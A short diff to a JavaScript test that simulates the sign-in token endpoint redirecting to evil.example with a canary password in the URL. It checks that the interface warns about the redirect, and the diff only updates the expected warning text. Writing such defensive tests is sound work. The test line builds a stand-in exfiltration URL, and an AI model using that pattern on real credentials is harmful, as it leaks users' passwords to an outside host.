@@ -237,7 +237,7 @@ describe('a person whose secrets are nobody else\'s business', () => {
     const lift = editor.sandbox.fault('POST /demo/auth/v1/token', { kind: 'redirect', location: `https://evil.example/?password=${encodeURIComponent(canary.password)}` });
     const result = execute(window, 'zeyos.signIn', at('demo'));
     await fillIn(window, 'demo', canary.name, canary.password);
-    await workbench.quickInput.widget.getByText('redirects to evil.example').waitFor();
+    await workbench.quickInput.widget.getByText('redirects to https://evil.example/').waitFor();
     await workbench.quickInput.cancel();
     await result;
     lift();
